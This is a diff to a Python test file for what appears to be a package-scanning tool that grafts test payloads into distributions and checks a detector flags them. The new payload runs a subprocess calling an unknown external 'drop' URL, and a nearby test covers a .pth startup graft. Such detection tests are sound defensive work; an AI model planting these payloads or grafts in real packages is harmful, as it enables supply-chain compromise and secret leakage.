@@ -12,12 +12,20 @@ from model.observing import opened
 from model.payloads import payload_of, text_of
 from model.transforms import Transform, transform
 from safe_pip.distribution import Distribution, DistributionKind
+from safe_pip.extractors import observe
 from tests.builders import make_sdist, make_wheel, sdist_filename, wheel_filename
 
-PAYLOAD = "import subprocess\nresult = subprocess.run(['canary', 'argument'], check=False)\n"
+PAYLOAD = (
+    "import subprocess\n"
+    "result = subprocess.run(['canary', 'https://drop.zq-collect.site/k'], check=False)\n"
+)
 HOST = {
     "host/__init__.py": '"""A host."""\nfrom __future__ import annotations\n\nvalue = 1\n',
     "host/deep.py": "def f():\n    return 2\n",
+    "host/keys.py": (
+        "class Client:\n    def __init__(self, secret_key, url=''):\n"
+        '        """A client."""\n        self.key = secret_key\n'
+    ),
     "setup.py": "from setuptools import setup\n\nsetup(name='host', version='1.0')\n",
 }
 SAMPLE = {
@@ -75,6 +83,19 @@ def test_a_pth_graft_is_one_line_that_site_would_run(host: Distribution) -> None
     (startup,) = [file for file in made.files if file.path.endswith(".pth")]
     (line,) = text_of(startup).splitlines()
     assert line.startswith("import ")
+
+
+def test_what_is_handed_on_is_found_and_its_host_without_keys_is_left_alone(
+    host: Distribution, sample: Distribution
+) -> None:
+    for seed in range(12):
+        made = graft(host, PAYLOAD, Place.HANDED_ON, seed)
+        assert made is not None
+        found = {item.feature for item in observe(made)}
+        assert found & {"leak_to_stranger", "net_unknown_drop", "net_unknown_host"}
+        assert "self.key = secret_key" in text_of(made.by_path["host/keys.py"])
+    assert graft(sample, PAYLOAD, Place.HANDED_ON, 0) is None
+    assert graft(host, "import subprocess\n", Place.HANDED_ON, 0) is None
 
 
 def test_a_wheel_takes_no_set_up_graft(wheel: Distribution) -> None:
